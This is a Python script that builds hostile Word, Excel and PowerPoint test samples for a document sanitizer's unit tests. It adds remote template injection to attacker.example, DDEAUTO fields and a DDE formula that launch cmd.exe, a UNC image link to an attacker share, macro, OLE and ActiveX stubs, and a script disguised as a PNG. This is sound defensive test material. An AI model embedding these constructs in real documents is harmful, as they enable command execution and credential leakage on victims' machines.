#!/usr/bin/env python3
"""make-ooxml-samples.py [DIR] -- hostile docx/xlsx for the kept-editable OOXML rebuild
(sanitizer/ooxml.c, tests/unit/test_ooxml.c; default DIR tests/corpus/ooxml).

Each is tests/corpus/office/sample.docx (or sample.xlsx), a real LibreOffice file, with
what attacks use added by hand, so that every byte is reviewable here:
  external-rels.docx  remote template injection (attachedTemplate, TargetMode=External
                      on settings.xml), an external hyperlink and an external image
  dde-field.docx      DDEAUTO as fldSimple and as a complex field whose instrText is
                      split across runs ("DD" + "EAUTO ..."), beside a harmless PAGE field
  ole-object.docx     an embedded OLE object (word/embeddings/oleObject1.bin), an ActiveX
                      control (word/activeX/), custom UI (customUI/customUI14.xml) and
                      customXml data
  vba.docx            a VBA project (word/vbaProject.bin, its relationship and
                      word/vbaData.xml) in a package whose main part is a plain docx's,
                      as a docm renamed .docx is
  dde.xlsx            a DDE formula (=cmd|'/c calc'!A1), an external workbook link
                      (xl/externalLinks/) and a connections part
  active.pptx         tests/corpus/office/sample.pptx with a VBA project, an ActiveX
                      control, an embedded OLE object (ppt/embeddings/), custom UI, an
                      external workbook link, a sound and a video (ppt/media/, one of them
                      linked by TargetMode="External"), an external hyperlink, and an
                      image part whose bytes are a script though its type says PNG; beside
                      them a real PNG image, which stays
  pptm.pptx           a macro-enabled presentation (pptm main type) renamed .pptx
"""
import os, sys, zipfile

here = os.path.dirname(os.path.abspath(__file__))
out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(here, "ooxml")
os.makedirs(out, exist_ok=True)
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OD = "application/vnd.openxmlformats-officedocument."


def load(name):
    z = zipfile.ZipFile(os.path.join(here, "office", name))
    return {n: z.read(n) for n in z.namelist()}


def save(name, parts):
    with zipfile.ZipFile(os.path.join(out, name), "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            i = zipfile.ZipInfo(n, date_time=(2024, 4, 1, 9, 0, 0))
            i.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(i, data)


def add_type(parts, part, ctype):
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace("</Types>", '<Override PartName="/%s" ContentType="%s"/></Types>' % (part, ctype))
    parts["[Content_Types].xml"] = ct.encode()


def add_default(parts, ext, ctype):
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace("</Types>", '<Default Extension="%s" ContentType="%s"/></Types>' % (ext, ctype))
    parts["[Content_Types].xml"] = ct.encode()


def add_rel(parts, rels, rid, rtype, target, external=False):
    x = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships '
                  b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  b'</Relationships>').decode()
    mode = ' TargetMode="External"' if external else ""
    x = x.replace("</Relationships>", '<Relationship Id="%s" Type="%s" Target="%s"%s/></Relationships>'
                  % (rid, rtype, target, mode))
    parts[rels] = x.encode()


def body_append(parts, xml):
    d = parts["word/document.xml"].decode()
    d = d.replace("<w:sectPr>", xml + "<w:sectPr>", 1)
    parts["word/document.xml"] = d.encode()


# external-rels.docx
p = load("sample.docx")
add_rel(p, "word/_rels/settings.xml.rels", "rId1", R + "/attachedTemplate",
        "http://attacker.example/template.dotm", True)
s = p["word/settings.xml"].decode()
s = s.replace("</w:settings>", '<w:attachedTemplate r:id="rId1"/></w:settings>')
if 'xmlns:r=' not in s.split(">", 2)[1]:
    s = s.replace("<w:settings ", '<w:settings xmlns:r="%s" ' % R, 1)
p["word/settings.xml"] = s.encode()
add_rel(p, "word/_rels/document.xml.rels", "rId90", R + "/hyperlink", "http://attacker.example/", True)
add_rel(p, "word/_rels/document.xml.rels", "rId91", R + "/image", "\\\\attacker.example\\share\\x.png", True)
body_append(p, '<w:p><w:hyperlink r:id="rId90"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>')
save("external-rels.docx", p)

# dde-field.docx
p = load("sample.docx")
body_append(p, '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ">'
               '<w:r><w:t>simple</w:t></w:r></w:fldSimple></w:p>'
               '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
               '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
               '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
               '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>complex</w:t></w:r>'
               '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
               '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
               '<w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r>'
               '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
               '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
save("dde-field.docx", p)

# ole-object.docx
p = load("sample.docx")
p["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
add_default(p, "bin", OD + "oleObject")
add_rel(p, "word/_rels/document.xml.rels", "rId80", R + "/oleObject", "embeddings/oleObject1.bin")
p["word/activeX/activeX1.xml"] = (b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/'
                                  b'office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" '
                                  b'ax:persistence="persistStorage" r:id="rId1" xmlns:r="%s"/>' % R.encode())
p["word/activeX/activeX1.bin"] = b"\xd0\xcf\x11\xe0" + b"\0" * 60
add_type(p, "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
add_rel(p, "word/activeX/_rels/activeX1.xml.rels", "rId1",
        "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary", "activeX1.bin")
add_rel(p, "word/_rels/document.xml.rels", "rId81", R + "/control", "activeX/activeX1.xml")
p["customUI/customUI14.xml"] = (b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                                b'onLoad="Evil"><ribbon/></customUI>')
add_rel(p, "_rels/.rels", "rId70", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "customUI/customUI14.xml")
p["customXml/item1.xml"] = b'<?xml version="1.0"?><data>citizen</data>'
add_rel(p, "word/_rels/document.xml.rels", "rId82", R + "/customXml", "../customXml/item1.xml")
body_append(p, '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId80"/>'
               '</w:object></w:r></w:p>')
save("ole-object.docx", p)

# vba.docx
p = load("sample.docx")
p["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
p["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
add_default(p, "bin", "application/vnd.ms-office.vbaProject")
add_type(p, "word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
add_rel(p, "word/_rels/document.xml.rels", "rId60", "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin")
add_rel(p, "word/_rels/vbaProject.bin.rels", "rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData",
        "vbaData.xml")
save("vba.docx", p)

# dde.xlsx
p = load("sample.xlsx")
sh = p["xl/worksheets/sheet1.xml"].decode()
sh = sh.replace("</sheetData>", '<row r="20"><c r="A20"><f>cmd|\'/c calc\'!A1</f><v>0</v></c>'
                '<c r="B20"><f>SUM(B1:B5)</f><v>1500</v></c></row></sheetData>')
p["xl/worksheets/sheet1.xml"] = sh.encode()
p["xl/externalLinks/externalLink1.xml"] = (b'<?xml version="1.0"?><externalLink xmlns="http://schemas.'
                                           b'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
                                           b'ddeTopic="/c calc"/></externalLink>')
add_type(p, "xl/externalLinks/externalLink1.xml", OD + "spreadsheetml.externalLink+xml")
add_rel(p, "xl/_rels/workbook.xml.rels", "rId90", R + "/externalLink", "externalLinks/externalLink1.xml")
p["xl/connections.xml"] = (b'<?xml version="1.0"?><connections xmlns="http://schemas.openxmlformats.org/'
                           b'spreadsheetml/2006/main"><connection id="1" name="q"><webPr url="http://attacker.example/"/>'
                           b'</connection></connections>')
add_type(p, "xl/connections.xml", OD + "spreadsheetml.connections+xml")
add_rel(p, "xl/_rels/workbook.xml.rels", "rId91", R + "/connections", "connections.xml")
save("dde.xlsx", p)

# active.pptx
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00"
       b"\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7V\xbd\xfa"
       b"\x00\x00\x00\x00IEND\xaeB`\x82")
p = load("sample.pptx")
SR = "ppt/slides/_rels/slide1.xml.rels"
p["ppt/media/image1.png"] = PNG
add_rel(p, SR, "rId50", R + "/image", "../media/image1.png")
p["ppt/media/image2.png"] = b"<script>alert(1)</script>"
add_rel(p, SR, "rId51", R + "/image", "../media/image2.png")
p["ppt/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
add_default(p, "bin", "application/vnd.ms-office.vbaProject")
add_rel(p, "ppt/_rels/presentation.xml.rels", "rId60",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
p["ppt/activeX/activeX1.xml"] = (b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/'
                                 b'office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" '
                                 b'ax:persistence="persistStorage"/>')
add_type(p, "ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
add_rel(p, SR, "rId61", R + "/control", "../activeX/activeX1.xml")
p["ppt/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
add_type(p, "ppt/embeddings/oleObject1.bin", OD + "oleObject")
add_rel(p, SR, "rId62", R + "/oleObject", "../embeddings/oleObject1.bin")
p["customUI/customUI14.xml"] = (b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
                                b'onLoad="Evil"><ribbon/></customUI>')
add_rel(p, "_rels/.rels", "rId70", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "customUI/customUI14.xml")
p["ppt/externalLinks/externalLink1.xml"] = (b'<?xml version="1.0"?><externalLink xmlns="http://schemas.'
                                            b'openxmlformats.org/spreadsheetml/2006/main"/>')
add_type(p, "ppt/externalLinks/externalLink1.xml", OD + "spreadsheetml.externalLink+xml")
add_rel(p, "ppt/_rels/presentation.xml.rels", "rId71", R + "/externalLink", "externalLinks/externalLink1.xml")
p["ppt/media/media1.wav"] = b"RIFF\x24\x00\x00\x00WAVEfmt " + b"\0" * 28
add_default(p, "wav", "audio/wav")
add_rel(p, SR, "rId72", R + "/audio", "../media/media1.wav")
p["ppt/media/media2.mp4"] = b"\x00\x00\x00\x18ftypmp42" + b"\0" * 16
add_default(p, "mp4", "video/mp4")
add_rel(p, SR, "rId73", R + "/video", "../media/media2.mp4")
add_rel(p, SR, "rId74", "http://schemas.microsoft.com/office/2007/relationships/media",
        "http://attacker.example/movie.mp4", True)
add_rel(p, SR, "rId75", R + "/hyperlink", "http://attacker.example/", True)
add_rel(p, SR, "rId76", R + "/image", "http://attacker.example/track.png", True)
save("active.pptx", p)

# pptm.pptx
p = load("sample.pptx")
ct = p["[Content_Types].xml"].decode().replace(
    OD + "presentationml.presentation.main+xml",
    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
p["[Content_Types].xml"] = ct.encode()
save("pptm.pptx", p)
